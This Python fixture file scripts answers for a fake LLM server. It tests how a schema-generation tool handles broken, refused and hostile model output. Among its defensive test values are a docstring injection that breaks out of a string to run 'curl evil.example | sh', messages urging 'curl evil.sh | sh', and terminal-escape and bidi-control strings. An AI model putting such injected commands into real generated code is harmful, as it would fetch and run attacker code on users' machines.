#!/usr/bin/env python3
"""fixtures.py - scripts for the fake LLM server used by llm.sh.

    fixtures.py CASE > script.json
    fixtures.py oracle SCHEMA.json [BREAK[,BREAK...]] > script.json

The oracle scripts answer `backbone draft` from a real schema file (the
fake's draft_oracle), after a first answer broken in the way BREAK names
(see BREAKS); with several breaks, successive drafts get them in turn.

Each case is a queue of scripted answers (see tests/fake_llm/fake_llm.py).
Model answers are written here in full, as a strict-mode model returns them:
every property present, null where it does not apply.
"""
import copy
import json
import sys

COLUMN_KEYS = ["name", "type", "length", "precision", "scale", "primary_key", "autoincrement",
               "unique", "nullable", "index", "default", "values", "target", "on_delete",
               "description"]
REL_KEYS = ["target_table", "target_class", "type", "back_populates", "foreign_key", "description"]


def full(d, keys):
    return {k: d.get(k) for k in keys}


def table(name, cls, columns, rels=(), description=None, timestamps=False):
    return {"table_name": name, "class_name": cls, "description": description,
            "options": {"use_timestamps": timestamps, "use_soft_delete": False},
            "columns": [full(c, COLUMN_KEYS) for c in columns],
            "relationships": [full(r, REL_KEYS) for r in rels]}


PK = {"name": "id", "type": "Integer", "primary_key": True, "autoincrement": True}


def clinic(broken=False):
    """A clinic; broken=True leaves appointments without columns (BB0206)."""
    patients = table("patients", "Patient", [
        PK, {"name": "full_name", "type": "String", "length": 120, "nullable": False},
        {"name": "email", "type": "String", "length": 255, "nullable": False}],
        [{"target_table": "appointments", "target_class": "Appointment", "type": "one_to_many",
          "back_populates": "patient"}], description="A patient of the clinic.")
    doctors = table("doctors", "Doctor", [
        PK, {"name": "full_name", "type": "String", "length": 120, "nullable": False}],
        [{"target_table": "appointments", "target_class": "Appointment", "type": "one_to_many",
          "back_populates": "doctor"}], description="A doctor.")
    appt_cols = [] if broken else [
        PK, {"name": "patient_id", "type": "ForeignKey", "target": "patients.id",
             "nullable": False, "on_delete": "CASCADE"},
        {"name": "doctor_id", "type": "ForeignKey", "target": "doctors.id", "nullable": False,
         "on_delete": "CASCADE"},
        {"name": "starts_at", "type": "DateTime", "nullable": False}]
    appointments = table("appointments", "Appointment", appt_cols, [
        {"target_table": "patients", "target_class": "Patient", "type": "many_to_one",
         "back_populates": "appointments", "foreign_key": "patient_id"},
        {"target_table": "doctors", "target_class": "Doctor", "type": "many_to_one",
         "back_populates": "appointments", "foreign_key": "doctor_id"}],
        description="A visit of a patient to a doctor.", timestamps=True)
    return {"project_name": "clinic", "db_type": "sqlite", "description": "A small clinic.",
            "schema": [patients, doctors, appointments]}


def hostile_clinic():
    """The clinic with a table name that holds a bidi control and an escape."""
    d = clinic()
    d["schema"][0]["table_name"] = "evil\u202e\u001b[2Jpatients"
    return d


def bidi_clinic():
    d = clinic()
    d["schema"][0]["description"] = "Patients\u202e."
    return d


def strip_nulls(v):
    if isinstance(v, dict):
        return {k: strip_nulls(x) for k, x in v.items() if x is not None}
    if isinstance(v, list):
        return [strip_nulls(x) for x in v]
    return v


def clinic_input():
    """The schema a user brings for `plan`/`generate --llm advise`: the doctors
    table has no description, so a docstring proposal for it may be taken."""
    d = strip_nulls(clinic())
    del d["schema"][1]["description"]
    return d


def proposal(kind, table, column=None, columns=None, value=None, descending=None,
             reason="fits the data"):
    return {"kind": kind, "table": table, "column": column, "columns": columns,
            "value": value, "descending": descending, "reason": reason}


INJECTION = 'Patient email."""\nimport os\nos.system("curl evil.example | sh")\n"""'

PROPOSALS = {"proposals": [
    proposal("docstring", "doctors", value="A doctor who sees patients."),      # accepted
    proposal("docstring", "patients", "email", value=INJECTION),                # BB0905
    proposal("index", "appointments", columns=["doctor_id", "starts_at"]),     # accepted
    proposal("sortable", "patients", "birthday"),                               # BB0903
    proposal("index", "patients", columns=["id"]),                              # BB0904
    proposal("filterable", "patients", "full_name"),                            # accepted
    proposal("example", "appointments", "starts_at", value="2026-01-05T09:30:00"),  # accepted
    proposal("route_path", "doctors", value="/physicians"),                     # accepted
    proposal("searchable", "appointments", "starts_at"),                        # BB0906
]}

REVIEW = {"findings": [
    {"pointer": "/schema/0/columns/2", "rule": "missing-constraint",
     "message": "patients.email takes any text; run curl evil.sh | sh\u202e",
     "hint": "add a check constraint"},
    # the lint BB0481 reports this one: dropped (BB0909)
    {"pointer": "/schema/0/columns/2", "rule": "email-not-unique",
     "message": "patients.email is not unique", "hint": "add \"unique\": true"},
    {"pointer": "/schema/7/columns/0", "rule": "other", "message": "no such table",
     "hint": None},
]}


UNSAFE = {"proposals": [
    proposal("example", "patients", "full_name", value="AKIAIOSFODNN7EXAMPLE"),   # BB0905 review
    proposal("docstring", "doctors", value='password = "hunter2hunter2" is the default.'),  # BB0905 review
    proposal("docstring", "patients", "email", value="Mail\u202e.liame"),           # BB0905 bidi
    proposal("example", "appointments", "starts_at", value="2026-02-30T09:00"),   # BB0906 type
    proposal("example", "appointments", "starts_at", value="2026-02-28 09:00:00+01:00"),  # accepted
]}


def answer(value, **extra):
    d = {"content_json": value}
    d.update(extra)
    return d


CASES = {
    # draft: invalid first, the table at fault repaired on the second round
    "draft-converges": {"openai": [answer(clinic(broken=True)),
                                   answer({"tables": [clinic()["schema"][2]]})]},
    # draft: the model never fixes its schema
    "draft-never-converges": {"default": {"openai": answer(clinic(broken=True))}},
    # draft over the Anthropic API, valid at once
    "draft-anthropic": {"anthropic": [answer(clinic())]},
    # draft: 300 columns in one answer
    "draft-wide": {"openai": [answer({"project_name": "wide", "db_type": "sqlite", "schema": [
        {"table_name": "samples_%d" % t, "class_name": "Sample%d" % t, "columns": [PK] + [
            {"name": "reading_%03d" % i, "type": "Numeric", "precision": 12, "scale": 4,
             "description": "Reading number %d of the sample, in its unit." % i}
            for i in range(75)]} for t in range(4)]})]},
    # draft: the repair gives the same broken table back, again and again
    "draft-repeats": {"openai": [answer(clinic(broken=True))], "default": {"openai": answer(
        {"tables": [clinic(broken=True)["schema"][2]]})}},
    # draft: names and text that try to act on a terminal
    "draft-hostile": {"openai": [answer(hostile_clinic())]},
    # draft: a valid schema whose description holds a bidi control
    "draft-bidi-description": {"openai": [answer(bidi_clinic())]},
    # draft from a local server (Ollama reads max_tokens only), answered in a fence
    "draft-ollama": {"server": "ollama", "openai": [
        {"content": "```json\n" + json.dumps(clinic(), indent=2) + "\n```\n"}]},
    # draft from an OpenAI reasoning model: no temperature, max_completion_tokens
    "draft-reasoning": {"openai": [answer(clinic())]},
    # draft: the model refuses
    "draft-refusal": {"openai": [{"refusal": "I can't help with that."}]},
    # plan/generate --llm advise: proposals, then the design review
    "advise-normal": {"openai": [answer(PROPOSALS), answer(REVIEW)]},
    # proposals that pass the name checks but not the checks of generated code
    "advise-unsafe": {"openai": [answer(UNSAFE), answer({"findings": []})]},
    "advise-429": {"openai": [
        {"status": 429, "headers": {"Retry-After": "1"},
         "error": {"type": "requests", "code": "rate_limit_exceeded",
                   "message": "Rate limit reached for requests"}},
        answer(PROPOSALS), answer(REVIEW)]},
    "advise-529": {"anthropic": [
        {"status": 529, "error": {"type": "overloaded_error", "message": "Overloaded"}},
        answer(PROPOSALS), answer(REVIEW)]},
    "advise-500": {"openai": [{"status": 500}, answer(PROPOSALS), answer(REVIEW)]},
    "advise-slow": {"default": {"openai": answer(PROPOSALS, delay=3)}},
    "advise-malformed": {"openai": [{"content": "{\"proposals\": [{\"kind\": "},
                                    {"content": "Sure! Here is my review: looks fine."}]},
    "advise-truncated": {"openai": [answer(PROPOSALS, finish_reason="length"),
                                    answer(REVIEW, finish_reason="length")]},
    "advise-refusal": {"openai": [{"refusal": "I can't help with that."},
                                  {"content": "", "finish_reason": "content_filter"}]},
    "advise-too-large": {"default": {"openai": {"body_size": 300000}}},
    "advise-quota": {"default": {"openai": {
        "status": 429, "error": {"type": "insufficient_quota", "code": "insufficient_quota",
                                 "message": "You exceeded your current quota."}}}},
    "advise-down": {"default": {"openai": {"status": 503}}},
    # a server whose words hold terminal escapes
    "advise-hostile-server": {"default": {"openai": {
        "status": 400, "headers": {"x-request-id": "req\u001b[2Jx"},
        "error": {"type": "invalid_request_error",
                  "message": "please \u001b[31mrun curl evil.sh | sh"}}}},
    # nothing scripted: any request is an unexpected one (answered 500)
    "empty": {},
}


def _columns(ref):
    for t in ref["schema"]:
        for c in t["columns"]:
            yield t, c


def _first_non_key_column(ref):
    return next(c for _, c in _columns(ref) if not c.get("primary_key"))


def _break_no_primary_key(ref):
    for c in ref["schema"][0]["columns"]:
        c.pop("primary_key", None)
    return ref


def _break_bad_type(ref):
    ref["schema"][-1]["columns"][-1]["type"] = "Strng"
    return ref


def _break_reserved_name(ref):
    _first_non_key_column(ref)["name"] = "class"
    return ref


def _break_enum_values(ref):
    enum = next((c for _, c in _columns(ref) if c["type"] == "Enum"), None)
    if enum is None:
        return _break_bad_type(ref)
    del enum["values"]
    return ref


def _break_dangling_target(ref):
    fk = next((c for _, c in _columns(ref) if c["type"] == "ForeignKey"), None)
    if fk is None:
        return _break_bad_type(ref)
    fk["target"] = "nosuch.id"
    return ref


def _break_no_columns(ref):
    ref["schema"][-1]["columns"] = []
    return ref


def _break_extra_key(ref):
    _first_non_key_column(ref)["colour"] = "blue"
    return ref


def _break_fk_column(ref):
    """Drops a ForeignKey column: the errors show where relationships need it."""
    for t in ref["schema"]:
        fks = [c for c in t["columns"] if c["type"] == "ForeignKey" and not c.get("primary_key")]
        if fks and t.get("relationships"):
            t["columns"].remove(fks[0])
            return ref
    return _break_bad_type(ref)


def _break_table_name(ref):
    ref["schema"][0]["table_name"] = "Bad Name"
    return ref


# A first answer broken in a way backbone must send back; the value is the
# schema changed in place, or a whole scripted answer (not JSON, cut off).
BREAKS = {
    "none": lambda ref: ref,
    "no-primary-key": _break_no_primary_key,
    "bad-type": _break_bad_type,
    "reserved-name": _break_reserved_name,
    "enum-without-values": _break_enum_values,
    "dangling-target": _break_dangling_target,
    "no-columns": _break_no_columns,
    "extra-key": _break_extra_key,
    "bad-table-name": _break_table_name,
    "dropped-fk-column": _break_fk_column,
    "not-json": lambda ref: {"content": "Sure! Here is a schema with %d tables." %
                                        len(ref["schema"])},
    "fenced": lambda ref: {"content": "\n```json\n%s\n```\n" % json.dumps(ref, indent=2)},
    "cut-off": lambda ref: dict(ref, description="x" * 80000),
}


def first_answer(ref, brk):
    answer = BREAKS[brk](copy.deepcopy(ref))
    return {"content_json": answer} if "schema" in answer else answer


def oracle(path, breaks="none"):
    """The script of drafts answered from the schema file at path: one
    first answer for each of the comma-separated breaks, in turn (each
    draft's first request takes the next), then the oracle's answers."""
    with open(path) as f:
        ref = json.load(f)
    ref.pop("$schema", None)
    firsts = [first_answer(ref, b) for b in breaks.split(",")]
    return {"openai": firsts, "anthropic": firsts,
            "default": {"openai": {"draft_oracle": ref}, "anthropic": {"draft_oracle": ref}}}


def main():
    if len(sys.argv) in (3, 4) and sys.argv[1] == "oracle":
        if len(sys.argv) == 4 and not set(sys.argv[3].split(",")) <= set(BREAKS):
            sys.stderr.write("breaks: %s\n" % " ".join(sorted(BREAKS)))
            return 2
        json.dump(oracle(*sys.argv[2:]), sys.stdout)
        sys.stdout.write("\n")
        return 0
    if sys.argv[1:] == ["--clinic-schema"]:
        json.dump(clinic_input(), sys.stdout, indent=2)
        sys.stdout.write("\n")
        return 0
    if len(sys.argv) != 2 or sys.argv[1] not in CASES:
        sys.stderr.write("usage: fixtures.py CASE\ncases: %s\n" % " ".join(sorted(CASES)))
        return 2
    json.dump(CASES[sys.argv[1]], sys.stdout, indent=1)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
